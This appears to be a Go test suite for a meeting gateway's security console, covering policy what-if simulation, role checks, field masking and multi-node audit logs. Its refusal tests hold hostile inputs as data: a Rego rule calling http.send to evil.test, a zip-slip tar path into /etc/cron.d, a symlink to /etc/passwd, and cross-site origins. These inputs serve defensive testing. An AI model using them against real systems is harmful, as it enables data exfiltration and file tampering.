package securityconsole_test

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"crypto/ed25519"
	"crypto/rand"
	"encoding/hex"
	"fmt"
	"io"
	"io/fs"
	"mime/multipart"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"go.uber.org/zap"

	"github.com/meetguard/meetguard/gateway/audit"
	"github.com/meetguard/meetguard/gateway/browsertest"
	"github.com/meetguard/meetguard/gateway/config"
	"github.com/meetguard/meetguard/gateway/securityconsole"
	"github.com/meetguard/meetguard/policies"
	"github.com/meetguard/meetguard/policy"
)

// mfaRule is what the candidate adds to the shipped admission policy:
// every room needs multi-factor sign-in, not only confidential ones.
const mfaRule = "\n# Candidate: every room needs MFA.\ndeny contains \"mfa_required\" if not mfa\n"

// mfaFixture logs, in room "standup", decisions the serving policy made
// (as the gateway logs them): staff who signed in with MFA, staff without,
// and guests, refused either way. It returns the subjects of the staff
// without MFA: the people an MFA-for-all candidate newly refuses.
func (e *env) mfaFixture(withMFA, without, guests int) map[string]bool {
	e.t.Helper()
	noMFA := map[string]bool{}
	write := func(sub, name, email string, amr []string) {
		in := policy.Input{
			Identity: policy.Identity{Iss: e.idp.URL, Sub: sub, Name: name, Email: email, EmailVerified: true, Groups: []string{}, AMR: amr, Via: policy.ViaSession},
			Room:     policy.Room{ID: "standup", Exists: true, Owner: "hanna", Occupancy: 3, HostPresent: true, Tags: []string{}},
			Request:  policy.Request{Time: time.Now().UTC(), IP: "192.0.2.10", Method: "GET", Path: "/room/standup"},
		}
		d := e.app.Policy.Decide(e.ctx, in)
		decision := audit.DecisionDeny
		if d.Allow {
			decision = audit.DecisionAllow
		}
		err := e.app.AuditLog.Record(e.ctx, audit.EventAdmissionDecision,
			zap.String(audit.FieldRoom, "standup"), zap.String(audit.FieldSubject, sub), zap.String(audit.FieldIssuer, e.idp.URL),
			zap.String(audit.FieldDecision, decision), zap.Strings(audit.FieldReasons, d.Reasons), zap.String(audit.FieldClientIP, "192.0.2.10"), zap.String(audit.FieldVia, "page"),
			zap.String(audit.FieldRole, d.Role), zap.String(audit.FieldPolicyRevision, d.Revision), zap.String(audit.FieldDecisionID, hex.EncodeToString([]byte(sub))),
			zap.Any(audit.FieldInput, in), zap.Any(audit.FieldResult, d))
		if err != nil {
			e.t.Fatal(err)
		}
	}
	for i := range max(withMFA, without, guests) {
		if i < withMFA {
			write(fmt.Sprintf("strong-%02d", i), fmt.Sprintf("Strong Staff %02d", i), fmt.Sprintf("strong%02d@example.com", i), []string{"pwd", "mfa"})
		}
		if i < without {
			sub := fmt.Sprintf("weak-%02d", i)
			noMFA[sub] = true
			write(sub, fmt.Sprintf("Password Only %02d", i), fmt.Sprintf("weak%02d@example.com", i), []string{"pwd"})
			write(sub, fmt.Sprintf("Password Only %02d", i), fmt.Sprintf("weak%02d@example.com", i), []string{"pwd"}) // twice: one change
		}
		if i < guests {
			write(fmt.Sprintf("guest-%02d", i), fmt.Sprintf("Guest %02d", i), fmt.Sprintf("guest%02d@elsewhere.test", i), []string{"pwd"})
		}
	}
	return noMFA
}

// candidateDir writes the shipped policy without its tests (an MFA-for-all
// admission rule fails them) plus extra to admission.rego.
func candidateDir(t testing.TB, extra string) string {
	t.Helper()
	dir := t.TempDir()
	if err := policies.WriteTo(dir); err != nil {
		t.Fatal(err)
	}
	err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err == nil && strings.HasSuffix(p, "_test.rego") {
			return os.Remove(p)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	f, err := os.OpenFile(filepath.Join(dir, "admission.rego"), os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if _, err := f.WriteString(extra); err != nil {
		t.Fatal(err)
	}
	return dir
}

// candidateFiles are the top-level policy files of dir, as a person picks
// them in a file dialog.
func candidateFiles(t testing.TB, dir string) []string {
	t.Helper()
	var out []string
	for _, pat := range []string{"*.rego", "data.json"} {
		m, _ := filepath.Glob(filepath.Join(dir, pat))
		out = append(out, m...)
	}
	return out
}

type part struct {
	field, filename string
	data            []byte
}

func form(t testing.TB, parts ...part) ([]byte, string) {
	t.Helper()
	var b bytes.Buffer
	mw := multipart.NewWriter(&b)
	for _, p := range parts {
		var w io.Writer
		var err error
		if p.filename != "" {
			w, err = mw.CreateFormFile(p.field, p.filename)
		} else {
			w, err = mw.CreateFormField(p.field)
		}
		if err != nil {
			t.Fatal(err)
		}
		_, _ = w.Write(p.data)
	}
	_ = mw.Close()
	return b.Bytes(), mw.FormDataContentType()
}

func fileParts(t testing.TB, paths []string) []part {
	t.Helper()
	var out []part
	for _, p := range paths {
		b, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, part{"files", filepath.Base(p), b})
	}
	return out
}

// post sends a what-if form as a bearer client (or, with client, the
// session client's cookies) with headers.
func (e *env) post(client *http.Client, token string, body []byte, contentType string, headers map[string]string) (int, string) {
	e.t.Helper()
	req, _ := http.NewRequest(http.MethodPost, e.URL+securityconsole.Prefix+"whatif", bytes.NewReader(body))
	req.Header.Set("Content-Type", contentType)
	req.Header.Set("Accept", "text/html")
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	for k, v := range headers {
		req.Header.Set(k, v)
	}
	if client == nil {
		client = browsertest.NoFollow(browsertest.Client(e.t))
	}
	resp, err := client.Do(req)
	if err != nil {
		e.t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

var rowRE = regexp.MustCompile(`<section class="change-group" data-kind="([a-z_]+)"|<tr data-subject="([^"]+)"`)

// changedSubjects reads a result page: subjects per change kind.
func changedSubjects(page string) map[string][]string {
	out := map[string][]string{}
	kind := ""
	for _, m := range rowRE.FindAllStringSubmatch(page, -1) {
		if m[1] != "" {
			kind = m[1]
			continue
		}
		out[kind] = append(out[kind], m[2])
	}
	return out
}

func keys(m map[string]bool) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	slices.Sort(out)
	return out
}

// TestWhatIf_MFAForAllNamesExactlyThePasswordOnlyStaff: loose files and
// the same candidate as a bundle each show exactly the staff who signed in
// without MFA as newly refused, guests (refused either way) only as a
// change of reasons, and nothing is activated: the serving revision and
// its decisions are unchanged. The run is on the audit trail.
func TestWhatIf_MFAForAllNamesExactlyThePasswordOnlyStaff(t *testing.T) {
	e := newEnv(t)
	noMFA := e.mfaFixture(6, 4, 3)
	before := e.app.Policy.Revision()
	dir := candidateDir(t, mfaRule)
	sam := e.bearer("sam", "secops")

	body, ct := form(t, append([]part{{"source", "", []byte("upload")}, {"n", "", []byte("100")}}, fileParts(t, candidateFiles(t, dir))...)...)
	status, page := e.post(nil, sam, body, ct, nil)
	if status != http.StatusOK {
		t.Fatalf("what-if: %d %s", status, page)
	}
	got := changedSubjects(page)
	newly := slices.Clone(got["newly_denied"])
	slices.Sort(newly)
	if want := keys(noMFA); !slices.Equal(newly, want) {
		t.Fatalf("newly denied %v, want exactly %v", newly, want)
	}
	if len(got["changed"]) != 3 || len(got["newly_admitted"]) != 0 || len(got["newly_lobby"]) != 0 {
		t.Fatalf("other changes: %v", got)
	}
	if !strings.Contains(page, "weak00@example.com") || !strings.Contains(page, "&#34;amr&#34;") && !strings.Contains(page, `"amr"`) {
		t.Fatalf("the page does not show who and the input:\n%s", page)
	}

	// The same candidate as an `opa build`-style bundle.
	bundle := tarGzDir(t, dir)
	body, ct = form(t, part{"files", "mfa.tar.gz", bundle})
	status, page = e.post(nil, sam, body, ct, nil)
	if status != http.StatusOK {
		t.Fatalf("bundle what-if: %d %s", status, page)
	}
	newly = changedSubjects(page)["newly_denied"]
	slices.Sort(newly)
	if !slices.Equal(newly, keys(noMFA)) {
		t.Fatalf("bundle: newly denied %v", newly)
	}

	if e.app.Policy.Revision() != before {
		t.Fatal("a what-if changed the serving revision")
	}
	if d := e.app.Policy.Decide(e.ctx, policy.Input{
		Identity: policy.Identity{Iss: e.idp.URL, Sub: "weak-00", Email: "weak00@example.com", EmailVerified: true, Groups: []string{}, AMR: []string{"pwd"}, Via: policy.ViaSession},
		Room:     policy.Room{ID: "standup", Exists: true, Owner: "hanna", Tags: []string{}},
		Request:  policy.Request{Time: time.Now().UTC(), IP: "192.0.2.10", Method: "GET", Path: "/room/standup"},
	}); !d.Allow {
		t.Fatalf("after the what-if the gateway decides %+v for a password-only staff member", d)
	}
	runs := 0
	for _, v := range e.views() {
		if v.Str(audit.FieldFormat) == "whatif" && v.Str(audit.FieldMethod) == http.MethodPost && v.Str(audit.FieldSubject) == "sam" {
			runs++
		}
	}
	if runs != 2 {
		t.Fatalf("%d what-if runs recorded, want 2", runs)
	}
}

func tarGzDir(t testing.TB, dir string) []byte {
	t.Helper()
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		rel, _ := filepath.Rel(dir, p)
		b, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		if err := tw.WriteHeader(&tar.Header{Name: "/" + filepath.ToSlash(rel), Mode: 0o644, Size: int64(len(b)), Typeflag: tar.TypeReg}); err != nil {
			return err
		}
		_, err = tw.Write(b)
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	_ = tw.Close()
	_ = gz.Close()
	return buf.Bytes()
}

// TestWhatIf_RefusesHostileAndInvalidCandidates: each upload is refused
// with what is wrong and where, nothing is replayed, and the serving
// policy is untouched.
func TestWhatIf_RefusesHostileAndInvalidCandidates(t *testing.T) {
	e := newEnv(t)
	e.mfaFixture(2, 2, 0)
	before := e.app.Policy.Revision()
	sam := e.bearer("sam", "secops")
	dir := candidateDir(t, "")
	files := func(extra string) []part {
		ps := fileParts(t, candidateFiles(t, dir))
		for i := range ps {
			if ps[i].filename == "admission.rego" {
				ps[i].data = append(slices.Clone(ps[i].data), extra...)
			}
		}
		return ps
	}
	lineOfAppend := func(extra, mark string) int {
		b, _ := os.ReadFile(filepath.Join(dir, "admission.rego"))
		all := string(b) + extra
		return strings.Count(all[:strings.Index(all, mark)], "\n") + 1
	}
	httpSend := "\nleak if http.send({\"method\": \"GET\", \"url\": \"https://evil.test\"})\n"
	syntax := "\nbroken := {\"a\" 1}\n"
	schema := "\ntypo if input.identty.sub == \"x\"\n"
	slip := func(name string) []byte {
		var buf bytes.Buffer
		gz := gzip.NewWriter(&buf)
		tw := tar.NewWriter(gz)
		_ = tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: 3, Typeflag: tar.TypeReg})
		_, _ = tw.Write([]byte("x:=1"[:3]))
		_ = tw.Close()
		_ = gz.Close()
		return buf.Bytes()
	}
	link := func() []byte {
		var buf bytes.Buffer
		gz := gzip.NewWriter(&buf)
		tw := tar.NewWriter(gz)
		_ = tw.WriteHeader(&tar.Header{Name: "data.json", Typeflag: tar.TypeSymlink, Linkname: "/etc/passwd"})
		_ = tw.Close()
		_ = gz.Close()
		return buf.Bytes()
	}
	tests := []struct {
		name   string
		parts  []part
		status int
		want   []string
	}{
		{"http.send", files(httpSend), http.StatusUnprocessableEntity,
			[]string{fmt.Sprintf("admission.rego:%d</code>", lineOfAppend(httpSend, "leak if")), "built-in http.send is not allowed"}},
		{"compile error", files(syntax), http.StatusUnprocessableEntity,
			[]string{fmt.Sprintf("admission.rego:%d</code>", lineOfAppend(syntax, "broken :=")), "rego_parse_error"}},
		{"schema mismatch", files(schema), http.StatusUnprocessableEntity,
			[]string{fmt.Sprintf("admission.rego:%d</code>", lineOfAppend(schema, "typo if")), "undefined ref: input.identty.sub"}},
		{"zip slip", []part{{"files", "evil.tar.gz", slip("../../../etc/cron.d/evil.rego")}}, http.StatusUnprocessableEntity,
			[]string{"../../../etc/cron.d/evil.rego", "&#34;..&#34; segment"}},
		{"symlink", []part{{"files", "evil.tar.gz", link()}}, http.StatusUnprocessableEntity, []string{"links are not allowed"}},
		{"path in a file name", []part{{"files", "../admission.rego", []byte("package x")}}, http.StatusUnprocessableEntity, []string{"../admission.rego"}},
		{"huge file", []part{{"files", "big.rego", bytes.Repeat([]byte("#"), policy.DefaultCandidateFileBytes+1)}}, http.StatusBadRequest, []string{"larger than the 2097152 bytes"}},
		{"huge upload", []part{{"files", "a.rego", bytes.Repeat([]byte("#"), 2<<20)}, {"files", "b.rego", bytes.Repeat([]byte("#"), 2<<20)},
			{"files", "c.rego", bytes.Repeat([]byte("#"), 2<<20)}, {"files", "d.rego", bytes.Repeat([]byte("#"), 2<<20)}, {"files", "e.rego", bytes.Repeat([]byte("#"), 1<<20)}},
			http.StatusBadRequest, []string{"larger than"}},
		{"too many decisions", append(files(""), part{"n", "", []byte("10001")}), http.StatusBadRequest, []string{"n: a number of decisions from 1 to 10000"}},
		{"bundle with files", append(files(""), part{"files", "b.tar.gz", slip("a.rego")}), http.StatusBadRequest, []string{"upload a bundle alone"}},
		{"nothing", []part{{"n", "", []byte("5")}}, http.StatusBadRequest, []string{"no candidate"}},
		{"unknown field", []part{{"dir", "", []byte("/etc")}}, http.StatusBadRequest, []string{"unexpected form field"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			body, ct := form(t, tt.parts...)
			status, page := e.post(nil, sam, body, ct, nil)
			if status != tt.status {
				t.Fatalf("%d, want %d: %s", status, tt.status, page)
			}
			for _, w := range tt.want {
				if !strings.Contains(page, w) {
					t.Errorf("page does not say %q:\n%s", w, page)
				}
			}
			if strings.Contains(page, `id="whatif-result"`) {
				t.Error("a refused candidate was replayed")
			}
		})
	}
	if e.app.Policy.Revision() != before {
		t.Fatal("the serving revision changed")
	}
}

// TestWhatIf_OnlyTheSecurityRoleFromTheConsoleItself: a colleague without
// a console role gets the console's one refusal, an auditor a refusal of
// the what-if, and a browser session's POST from another site (or with no
// proof of origin) is refused before anything is read.
func TestWhatIf_OnlyTheSecurityRoleFromTheConsoleItself(t *testing.T) {
	e := newEnv(t)
	e.mfaFixture(1, 1, 0)
	body, ct := form(t, part{"source", "", []byte("disk")})

	_, refusal, _ := e.get(nil, "/.meetguard/security/decisions", e.bearer("bob"))
	status, page := e.post(nil, e.bearer("bob"), body, ct, nil)
	if status != http.StatusForbidden || page != refusal {
		t.Fatalf("colleague: %d %s\nwant the uniform refusal %s", status, page, refusal)
	}
	status, page = e.post(nil, e.bearer("mallory", "security", "auditor"), body, ct, nil)
	if status != http.StatusForbidden || page != refusal {
		t.Fatalf("look-alike groups: %d %s", status, page)
	}

	// The provider's user is an auditor, not the security team.
	cl := browsertest.Client(t)
	e.idp.BrowserLogin(t, cl, e.URL+"/.meetguard/login?rd=/").Body.Close()
	status, page = e.post(cl, "", body, ct, map[string]string{"Origin": e.URL})
	if status != http.StatusForbidden || !strings.Contains(page, "The what-if is for the security role.") {
		t.Fatalf("auditor: %d %s", status, page)
	}

	// Now make them the security team too.
	e.editData(func(m map[string]any) {
		m["console_roles"].(map[string]any)["security"].(map[string]any)["emails"] = []string{e.idp.Email}
	})
	if err := e.app.Policy.Reload(e.ctx); err != nil {
		t.Fatal(err)
	}
	for _, h := range []map[string]string{
		{"Origin": "https://evil.test"},
		{"Origin": "null"},
		{"Sec-Fetch-Site": "cross-site"},
		{"Sec-Fetch-Site": "same-site"},
		{},
	} {
		status, page := e.post(cl, "", body, ct, h)
		if status != http.StatusForbidden || strings.Contains(page, `id="whatif-result"`) {
			t.Fatalf("cross-site POST %v: %d %s", h, status, page)
		}
	}
	status, page = e.post(cl, "", body, ct, map[string]string{"Origin": e.URL, "Sec-Fetch-Site": "same-origin"})
	if status != http.StatusOK || !strings.Contains(page, `id="whatif-result"`) || !strings.Contains(page, `id="nobody"`) {
		t.Fatalf("the policy directory on disk, from the console: %d %s", status, page)
	}
}

// TestWhatIf_InputsAreMasked: with policy.mask_fields set, neither the
// decision page nor the what-if shows the masked field of a logged input,
// and both say what was masked.
func TestWhatIf_InputsAreMasked(t *testing.T) {
	e := newEnv(t, func(cfg *config.Config, _ map[string]any) {
		if cfg != nil {
			cfg.Policy.MaskFields = []string{"/identity/email", "/request/ip"}
		}
	})
	e.mfaFixture(0, 1, 0)
	sam := e.bearer("sam", "secops")
	status, list, _ := e.get(nil, "/.meetguard/security/decisions?room=standup", sam)
	ref := regexp.MustCompile(`decision\?ref=([0-9]+(?::|%3a)[0-9]+)`).FindStringSubmatch(list)
	if status != http.StatusOK || ref == nil {
		t.Fatalf("decisions: %d %s", status, list)
	}
	status, page, _ := e.get(nil, "/.meetguard/security/decision?ref="+ref[1], sam)
	if !strings.Contains(page, `id="h-res"`) {
		t.Fatalf("decision page: %d %s", status, page)
	}
	input := page[strings.Index(page, `id="h-in"`):strings.Index(page, `id="h-res"`)]
	if status != http.StatusOK || strings.Contains(input, "weak00@example.com") || strings.Contains(input, "192.0.2.10") || !strings.Contains(input, "weak-00") ||
		!strings.Contains(input, "/input/identity/email") {
		t.Fatalf("decision page input: %d\n%s", status, input)
	}
	body, ct := form(t, append([]part{{"source", "", []byte("upload")}}, fileParts(t, candidateFiles(t, candidateDir(t, mfaRule)))...)...)
	status, page = e.post(nil, sam, body, ct, nil)
	result := page[strings.Index(page, `id="whatif-result"`):]
	if status != http.StatusOK || !strings.Contains(result, `data-subject="weak-00"`) || strings.Contains(result, "weak00@example.com") || strings.Contains(result, "192.0.2.10") ||
		!strings.Contains(result, "/input/identity/email") {
		t.Fatalf("what-if: %d\n%s", status, result)
	}
}

// TestPeerFiles_IndexAndReportReadEveryNode: with audit.peer_files naming
// another node's shipped log, the decisions page and the rooms report tell
// the meeting from both nodes' records.
func TestPeerFiles_IndexAndReportReadEveryNode(t *testing.T) {
	peers := t.TempDir()
	peerLog := filepath.Join(peers, "node-b", "audit.log")
	if err := os.MkdirAll(filepath.Dir(peerLog), 0o755); err != nil {
		t.Fatal(err)
	}
	e := newEnv(t, func(cfg *config.Config, _ map[string]any) {
		if cfg != nil {
			cfg.Audit.PeerFiles = []string{filepath.Join(peers, "*", "audit.log")}
		}
	})
	e.meeting("board", 3, 1) // this node
	_, key, _ := ed25519.GenerateKey(rand.Reader)
	other, err := audit.Open(e.ctx, audit.Options{Path: peerLog, Node: "node-b", SigningKey: key})
	if err != nil {
		t.Fatal(err)
	}
	for i := range 2 {
		sub := fmt.Sprintf("remote-%d", i)
		if err := other.Record(e.ctx, audit.EventAdmissionDecision, zap.String(audit.FieldRoom, "board"), zap.String(audit.FieldSubject, sub),
			zap.String(audit.FieldIssuer, e.idp.URL), zap.String(audit.FieldDecision, audit.DecisionDeny), zap.Strings(audit.FieldReasons, []string{"room_locked"}),
			zap.String(audit.FieldClientIP, "198.51.100.9"), zap.String(audit.FieldVia, "page")); err != nil {
			t.Fatal(err)
		}
	}
	if err := other.Close(); err != nil {
		t.Fatal(err)
	}
	sam := e.bearer("sam", "secops")
	status, page, _ := e.get(nil, "/.meetguard/security/decisions?room=board&outcome=deny", sam)
	if status != http.StatusOK || !strings.Contains(page, `data-subject="remote-0"`) || !strings.Contains(page, `data-subject="remote-1"`) || !strings.Contains(page, `data-subject="guest-00"`) {
		t.Fatalf("decisions of both nodes: %d %s", status, page)
	}
	status, body, _ := e.get(nil, "/.meetguard/security/rooms?room=board&format=json", sam)
	if status != http.StatusOK || !strings.Contains(body, "remote-1") || !strings.Contains(body, "guest-00") {
		t.Fatalf("report of both nodes: %d %s", status, body)
	}
}
